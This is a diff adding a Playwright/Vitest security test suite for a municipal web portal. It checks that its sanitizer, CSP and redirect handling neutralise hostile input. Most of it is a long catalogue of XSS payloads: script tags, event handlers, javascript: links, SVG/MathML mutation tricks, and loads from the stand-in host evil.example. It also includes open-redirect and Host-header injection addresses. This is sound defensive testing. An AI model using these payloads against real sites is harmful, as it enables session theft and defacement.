@@ -1,0 +1,472 @@
+import { connect } from 'node:net';
+import type { BrowserContext, BrowserContextOptions, Page } from 'playwright';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { RICH_TEXT } from '#contract/values/html';
+import { admin, pages } from '#contract/addresses/pages';
+import { calls, publicCall } from '#contract/addresses/calls';
+import { titlekey } from '#contract/values/text';
+import { untilHeld } from '../support/held.ts';
+import { PASSWORD } from '../support/server.ts';
+import { inTabs } from '../support/tabs.ts';
+import { logIn, openTown } from '../support/town.ts';
+import type { Town } from '../support/town.ts';
+import { untilQuiet } from '../support/quiet.ts';
+
+/** Rich texts of an attacker with write access: any code in them that runs calls `hit`. */
+const RICH: readonly string[] = [
+  '<script>hit(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>hit(1)</scr</script>ipt>',
+  '<script/x>hit(1)</script >',
+  '<script\u000c>hit(1)</script>',
+  '</script><script>hit(1)</script>',
+  '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
+  '<img src=x onerror=hit(1)>',
+  '<img/src=x/onerror=hit(1)//',
+  '<img src="x`"`onerror=hit(1)>',
+  '<img """><script>hit(1)</script>">',
+  '<image src=x onerror=hit(1)>',
+  '<input autofocus onfocus=hit(1)>',
+  '<video><source onerror=hit(1)></video>',
+  '<audio src=x onerror=hit(1)>',
+  '<body onload=hit(1)>',
+  '<details open ontoggle=hit(1)>x</details>',
+  '<marquee onstart=hit(1)>x</marquee>',
+  '<select autofocus onfocus=hit(1)>',
+  '<p onmouseover=hit(1) onclick="hit(1)" onpointerenter=hit(1)>toque</p>',
+  '<p style="animation:x 1s" onanimationstart=hit(1)>',
+  '<table background="javascript:hit(1)"><tr><td background="javascript:hit(1)">x</td></tr></table>',
+  '<svg onload=hit(1)>',
+  '<svg><script>hit(1)</script></svg>',
+  '<svg><script href="data:text/javascript,hit(1)"/></svg>',
+  '<svg><animate onbegin=hit(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:hit(1)"><text y="20">x</text></a></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></foreignObject></svg>',
+  '<svg><style><img src=x onerror=hit(1)></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
+  '<svg><desc><table><thead><s></table></s><img src=x onerror=hit(1)></desc></svg>',
+  '<svg><set attributeName=href to=javascript:hit(1)><a id=x>x</a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit(1)</script></svg>#x"></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>hit(1)</script>">',
+  '<math href="javascript:hit(1)">x</math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>',
+  '<math><mtext><mglyph><a title="</mglyph><img src=x onerror=hit(1)>">',
+  '<iframe src="javascript:parent.hit(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
+  '<object data="javascript:hit(1)"></object>',
+  '<embed src="data:text/html,<script>parent.hit(1)</script>">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:hit(1)">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  '<link rel=import href="//evil.example/x">',
+  '<form action="javascript:hit(1)"><button>x</button></form>',
+  '<button form=x formaction="javascript:hit(1)">x</button>',
+  '<isindex action="javascript:hit(1)" type=image>',
+  '<portal src="//evil.example">',
+  '<frameset onload=hit(1)>',
+  '<style>@import "//evil.example/x.css"; * { background: url(//evil.example/y) }</style>',
+  '<p style="background:url(//evil.example/z);position:fixed;inset:0">x</p>',
+  '<div style="behavior:url(x.htc);-moz-binding:url(x)">x</div>',
+  '<xss id=x tabindex=1 onfocus=hit(1)></xss>',
+  '<template><script>hit(1)</script></template>',
+  '<slot onslotchange=hit(1)>',
+  '<dialog open onclose=hit(1)>',
+  '<keygen autofocus onfocus=hit(1)>',
+  '<textarea autofocus onfocus=hit(1)></textarea>',
+  '<title><img src=x onerror=hit(1)></title>',
+  '<xmp><img src=x onerror=hit(1)></xmp>',
+  '<plaintext><img src=x onerror=hit(1)>',
+  '<noembed><img src=x onerror=hit(1)></noembed>',
+  '<a href="javascript:hit(1)">enlace</a>',
+  '<a href="JaVaScRiPt:hit(1)">enlace</a>',
+  '<a href=" &#14; javascript:hit(1)">enlace</a>',
+  '<a href="java\tscript:hit(1)">enlace</a>',
+  '<a href="java&#x0A;script:hit(1)">enlace</a>',
+  '<a href="&#106;avascript&colon;hit(1)">enlace</a>',
+  '<a href="javascript&#58;hit(1)">enlace</a>',
+  '<a href="\u0001javascript:hit(1)">enlace</a>',
+  '<a href="vbscript:hit(1)">enlace</a>',
+  '<a href="data:text/html,<script>opener.hit(1)</script>">enlace</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">enlace</a>',
+  '<a href="blob:https://evil.example/x">enlace</a>',
+  '<a href="view-source:javascript:hit(1)">enlace</a>',
+  '<a href="//evil.example">enlace</a>',
+  '<a href="/\\evil.example">enlace</a>',
+  '<a href="https://x" onclick=hit(1) target=_self ping="//evil.example/p" style="x" id="root" class="x" name="cookie">enlace</a>',
+  '<a href="https://x/&quot; onclick=&quot;hit(1)">enlace</a>',
+  '<a href=\'https://x/"onclick="hit(1)\'>enlace</a>',
+  '<a href="feed:javascript:hit(1)">enlace</a>',
+  '<a href="filesystem:https://x">enlace</a>',
+  '<table><table><tr><td><table><script>hit(1)</script></table>',
+  '<table><tr><td></table><img src=x onerror=hit(1)></td></tr></table>',
+  '<table><a href="</table><img src=x onerror=hit(1)>">x</a></table>',
+  '<p title="</table><table onload=hit(1)>">x',
+  '<blockquote cite="javascript:hit(1)">x</blockquote>',
+  '<td><img src=x onerror=hit(1)>',
+  '<ul><li><table><li><script>hit(1)</script></table></ul>',
+  '<!--><img src=x onerror=hit(1)>-->',
+  '<!-- --!><img src=x onerror=hit(1)> -->',
+  '<![CDATA[<img src=x onerror=hit(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=hit(1)>',
+  '<!DOCTYPE x [<!ENTITY y "<script>hit(1)</script>">]>&y;',
+  '&lt;script&gt;hit(1)&lt;/script&gt;',
+  '&amp;lt;img src=x onerror=hit(1)&amp;gt;',
+  '<<img src=x onerror=hit(1)>',
+  '<p<img src=x onerror=hit(1)>',
+  '<p/<script>hit(1)</script>',
+  '<\u0000script>hit(1)</script>',
+  '<a\u0000 href="javascript:hit(1)">enlace</a>',
+  '<p id=getElementById><p id=cookie><p name=body>x',
+  '<p>\u2028</p><script>hit(1)</script>',
+  '<strong\u00a0onclick=hit(1)>x</strong>',
+  '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
+  '<br onerror=hit(1)/>',
+  '<hr onclick=hit(1)>',
+];
+/** The same for plain texts: titles, names, descriptions, the town's own data. */
+const PLAIN =
+  '</title></script></style></textarea><img src=x onerror=hit(1)><script>hit(1)</script><!-- "\'`><svg onload=hit(1)> {{7*7}} ${hit(1)} &lt;script&gt; \u2028 \\u003cscript> ]]> javascript:hit(1)';
+
+let town: Town;
+let token: string;
+const record: Record<string, string> = {};
+/** The sanitized form of each text. */
+const cleaned: string[] = [];
+
+beforeAll(async () => {
+  town = await openTown();
+  token = ((await post('/users/authenticate', { username: 'admin', password: PASSWORD })) as { token: string }).token;
+  for (const [entity, fields] of Object.entries(HOSTILE)) {
+    const { id } = (await post(calls.create(entity as 'story'), {})) as { id: string };
+    record[entity] = id;
+    for (const [field, value] of Object.entries(fields))
+      await post(calls.update(entity as 'story', id, field), { value });
+  }
+  for (const text of RICH) {
+    await post(calls.update('story', record.story ?? '', 'text'), { value: text });
+    cleaned.push(
+      ((await (await fetch(town.url + publicCall('story', { id: record.story ?? '' }))).json()) as { text: string })
+        .text,
+    );
+  }
+  await post(calls.update('story', record.story ?? '', 'text'), { value: ALL });
+  await fetch(`${town.url}${calls.labelCreateAdd(record.story ?? '', 'a"><img src=x onerror=hit(1)>')}`, {
+    headers: { Authorization: `Bearer ${token}` },
+  });
+  await post(calls.albumVideoAdd(record.album ?? ''), { url: 'https://videos.example/"><script>hit(1)</script>.mp4' });
+  await post(calls.greenPointText(), { value: ALL });
+  await post(calls.document('usefulData'), {
+    value: {
+      rows: [
+        {
+          area: PLAIN,
+          phones: ['2902 481000'],
+          extension: PLAIN,
+          hours: PLAIN,
+          always: false,
+          address: PLAIN,
+          email: '"><script>hit(1)</script>@x',
+        },
+      ],
+    },
+  });
+  const site = (await (await fetch(town.url + publicCall('site'))).json()) as Record<string, unknown>;
+  const { id: _, ...value } = site;
+  await post(calls.document('site'), {
+    value: {
+      ...value,
+      town: PLAIN,
+      province: PLAIN,
+      name: PLAIN,
+      motto: PLAIN,
+      address: PLAIN,
+      email: '"onfocus="hit(1)"@x',
+      taxUrl: 'https://x/"onclick="hit(1)',
+      map: { embedUrl: 'https://www.openstreetmap.org/export/embed.html?"onload="hit(1)', title: PLAIN },
+    },
+  });
+});
+afterAll(() => town.close());
+
+/** All texts that do not hide what follows, one after another. */
+const ALL = `<p>principio</p>${RICH.filter(
+  (text) => !/plaintext|xmp|noembed|<title|<textarea|<!--|CDATA|<select|<noscript|frameset/i.test(text),
+)
+  .map((text) => `<p>${text}</p>`)
+  .join('\n')}<p>fin</p>`;
+const plain = { title: PLAIN, status: 'Publicado' };
+const HOSTILE: Record<string, Record<string, unknown>> = {
+  story: { ...plain, description: PLAIN, highlight: 1 },
+  agenda: { ...plain, description: PLAIN, highlight: 1, text: ALL, date: '01-01-2099' },
+  bulletin: { ...plain, number: PLAIN, text: ALL },
+  album: { ...plain, shortDescription: PLAIN, description: ALL, highlight: 1 },
+  authority: {
+    name: PLAIN,
+    position: PLAIN,
+    education: PLAIN,
+    field: PLAIN,
+    description: PLAIN,
+    phones: PLAIN,
+    inter: PLAIN,
+    address: PLAIN,
+    personalData: ALL,
+    email: '"><img/src=x/onerror=hit(1)>@x',
+  },
+  user: { name: PLAIN, username: PLAIN, email: '"><img/src=x/onerror=hit(1)>@x' },
+  map: { title: PLAIN, url: 'https://x.example/"><script>hit(1)</script>' },
+  greenpoint: { title: PLAIN, url: "https://x.example/?'onclick='hit(1)" },
+};
+
+const addresses = () => {
+  const named = (entity: string) => ({ id: record[entity] ?? '', titlekey: 'x' });
+  return [
+    pages.home(),
+    pages.stories(),
+    pages.story(named('story')),
+    pages.agenda(),
+    pages.event(named('agenda')),
+    pages.bulletins(),
+    pages.bulletin(named('bulletin')),
+    pages.tourism(),
+    pages.album(named('album')),
+    pages.greenPoints(),
+    pages.usefulData(),
+    pages.authority({ titlekey: titlekey(PLAIN) }),
+    pages.search('onerror'),
+    pages.search(PLAIN.replaceAll('/', ' ')),
+    pages.login('javascript:hit(1)'),
+    '/noticias/%3Cimg%20src=x%20onerror=hit(1)%3E',
+    '/boletin/buscar/%22%3E%3Cscript%3Ehit(1)%3C%2Fscript%3E',
+    `/buscador/x?pagina=%22%3E%3Cscript%3Ehit(1)%3C/script%3E`,
+  ];
+};
+
+/** The pages that show a rich text. */
+const isRich = (address: string) => /\/leer\/|\/gobierno\/|\/turismo\/.|puntosverdes/.test(address);
+
+/** The screens with the rich-text editor. */
+const RICH_SCREEN = /noticia\/|agenda\/|gobierno\/|turismo\/|boletin\/|puntosverdes$/;
+
+interface Watched {
+  page: Page;
+  context: BrowserContext;
+  hits: string[];
+  foreign: string[];
+}
+
+/**
+ * Opens a browser that records code of an attacker that runs, and requests to other sites.
+ * @param guarded whether the portal's CSP is active, whose violations are recorded too; without it, only sanitizing
+ *   protects the page
+ */
+async function watch(guarded: boolean, options: BrowserContextOptions = {}): Promise<Watched> {
+  const page = await town.visitor({ bypassCSP: !guarded, viewport: { width: 1024, height: 800 }, ...options });
+  const context = page.context();
+  const hits: string[] = [];
+  const foreign: string[] = [];
+  await context.exposeFunction('hit', () => void hits.push(page.url()));
+  await context.exposeFunction('violated', (what: string) => void hits.push(`${page.url()}: ${what}`));
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
+      void (window as unknown as { violated: (what: string) => void }).violated(
+        `${violatedDirective} ${blockedURI} ${sample}`,
+      );
+    });
+  });
+  context.on('dialog', (dialog) => {
+    hits.push(`${dialog.page()?.url()}: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  context.on('request', (request) => {
+    if (!request.url().startsWith(town.url) && !/^(?:data|blob):/.test(request.url())) foreign.push(request.url());
+  });
+  return { page, context, hits, foreign };
+}
+
+async function settle(page: Page): Promise<void> {
+  await page.locator('main h1').first().waitFor();
+  await untilQuiet(page);
+  // Handlers that wait for a pointer are triggered.
+  for (const link of await page.locator('main a', { hasText: /^(?:enlace|toque)$/ }).all())
+    await link.dispatchEvent('mouseover');
+}
+
+describe('hostile rich text', () => {
+  it(`is cleaned to the tags that may be stored (${RICH.length} of them), in a real parser`, async () => {
+    const { page, hits, foreign } = await watch(false);
+    await page.goto('/noticias/leer/x/y');
+    for (const [index, html] of cleaned.entries()) {
+      const found = await page.evaluate((text) => {
+        const box = document.createElement('div');
+        document.body.append(box);
+        box.innerHTML = text;
+        const elements = [...box.querySelectorAll('*')];
+        const all = elements.map((element) => ({
+          tag: element.localName,
+          names: element.getAttributeNames(),
+          to:
+            element instanceof HTMLAnchorElement && element.hasAttribute('href')
+              ? element.protocol + (element.host === location.host ? '' : element.host)
+              : '',
+          isHtml: element instanceof HTMLElement,
+        }));
+        return { all, again: box.innerHTML };
+      }, html);
+      const told = `${RICH[index]} -> ${html}`;
+      for (const { tag, names, to, isHtml } of found.all) {
+        expect(RICH_TEXT.tags, told).toContain(tag);
+        expect(isHtml, told).toBe(true);
+        for (const name of names) expect(RICH_TEXT.attributes[tag] ?? [], told).toContain(name);
+        if (to) expect(to, told).toMatch(/^(?:https?:|mailto:|tel:)(?!evil)/);
+      }
+    }
+    await page.waitForTimeout(500);
+    expect([hits, foreign]).toEqual([[], []]);
+    await page.context().close();
+  });
+});
+
+describe('nothing hostile runs', () => {
+  it.each([
+    ['with the policy, which is never called upon', true],
+    ['without the policy', false],
+  ] as const)('in the first paint and after hydration, %s', async (_, guarded) => {
+    // The service worker is blocked, because from the second page on it would answer instead of the server.
+    const { context, hits, foreign } = await watch(guarded, { serviceWorkers: 'block' });
+    await inTabs(context, addresses(), async (tab, address) => {
+      await tab.goto(address);
+      await settle(tab);
+      if (isRich(address)) expect(await tab.locator('main').innerText(), address).toMatch(/principio[^]*enlace[^]*fin/);
+      expect(
+        await tab.evaluate(
+          () =>
+            document.querySelectorAll(
+              'main script, main style, main img[src="x"], main svg script, main form[action^="javascript"], main iframe',
+            ).length,
+        ),
+        address,
+      ).toBe(0);
+    });
+    expect([hits, foreign]).toEqual([[], []]);
+    await context.close();
+  });
+
+  it('on pages drawn on the device, with the server stopped, and after following links', async () => {
+    const { page, context, hits, foreign } = await watch(false);
+    await page.goto('/');
+    await untilHeld(page);
+    await town.kill();
+    await inTabs(context, addresses(), async (tab, address) => {
+      await tab.goto(address);
+      await settle(tab);
+      if (isRich(address)) expect(await tab.locator('main').innerText(), address).toMatch(/principio[^]*enlace[^]*fin/);
+    });
+    await page.getByRole('link', { name: 'Todas las noticias' }).first().click();
+    await page.waitForURL('**/noticias');
+    await settle(page);
+    await town.start();
+    expect([hits, foreign]).toEqual([[], []]);
+    await context.close();
+  });
+
+  it('in the back office: lists, edit screens, previews, the rich-text editor, forms, JSON and the history', async () => {
+    const { page, context, hits, foreign } = await watch(true);
+    await logIn(page);
+    const screens = [
+      '/admin',
+      `/admin/noticia/${record.story}`,
+      `/admin/noticia/${record.story}?vista=previa`,
+      '/admin/agenda',
+      `/admin/agenda/${record.agenda}`,
+      '/admin/gobierno',
+      `/admin/gobierno/${record.authority}`,
+      '/admin/turismo',
+      `/admin/turismo/${record.album}`,
+      '/admin/mapas',
+      `/admin/mapas/${record.map}`,
+      '/admin/puntosverdes',
+      '/admin/boletin',
+      `/admin/boletin/${record.bulletin}`,
+      '/admin/datosutiles',
+      '/admin/sitio',
+      '/admin/users',
+      `/admin/user/${record.user}`,
+      admin.account(),
+      admin.pending(),
+      admin.history(),
+      ...['story', 'authority', 'album', 'user'].map((type) => admin.historyOf(type, record[type] ?? '')),
+    ];
+    await inTabs(context, screens, async (tab, screen) => {
+      await tab.goto(screen);
+      await tab.locator('h1').first().waitFor();
+      await untilQuiet(tab);
+      const preview = new URL(screen, town.url).search !== '';
+      if (RICH_SCREEN.test(screen) && !preview)
+        await tab.locator('.ProseMirror').filter({ hasText: 'principio', visible: true }).waitFor();
+      const json = tab.getByRole('button', { name: 'Editar como JSON' });
+      if (!(await json.isVisible())) return;
+      await json.click();
+      await tab.locator('.jsoneditor').waitFor();
+      await untilQuiet(tab);
+    });
+    expect([hits, foreign]).toEqual([[], []]);
+    await context.close();
+  });
+});
+
+describe('an address', () => {
+  it.each([
+    '//evil.example/noticias',
+    '//',
+    '//[',
+    '/\\evil.example/noticias',
+    'http://evil.example/noticias',
+    '/noticias/%',
+    '/%2f%2fevil.example',
+    '/noticias/\u0000'.replace('\u0000', '%00'),
+  ])('like %s leads to no other site and causes no error', async (address) => {
+    const answer = await speak(
+      `GET ${address} HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n`,
+    );
+    expect(answer).toMatch(/^HTTP\/1\.1 (?:200|302|308|400|404) /);
+    expect(answer).not.toMatch(/(?:href|content)="(?:https?:)?\/\/evil|^location: *(?:https?:)?\/\/evil/im);
+  });
+
+  it('to go to after logging in, or when already logged in, stays on this site', async () => {
+    const page = await town.visitor();
+    await page.goto(`/login?volver=${encodeURIComponent('/\\evil.example')}`);
+    await page.getByLabel('Usuario').fill('admin');
+    await page.getByLabel('Contraseña').fill(PASSWORD);
+    await page.getByRole('button', { name: 'Ingresar' }).click();
+    await page.waitForURL((url) => url.pathname !== '/login');
+    expect(new URL(page.url()).origin).toBe(town.url);
+    await page.goto(`/login?volver=${encodeURIComponent('//evil.example')}`);
+    await page.waitForURL((url) => url.pathname !== '/login');
+    expect(new URL(page.url()).origin).toBe(town.url);
+    await page.context().close();
+  });
+});
+
+async function post(path: string, body: object): Promise<unknown> {
+  const answer = await fetch(town.url + path, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json', ...(token ? { Authorization: `Bearer ${token}` } : {}) },
+    body: JSON.stringify(body),
+  });
+  const text = await answer.text();
+  expect([path, answer.status, answer.status === 200 ? '' : text]).toEqual([path, 200, '']);
+  return JSON.parse(text);
+}
+
+function speak(request: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(Number(new URL(town.url).port), '127.0.0.1', () => socket.write(request));
+    let answer = '';
+    socket.on('data', (data) => (answer += data.toString()));
+    socket.on('error', reject);
+    socket.on('close', () => resolve(answer));
+  });
+}
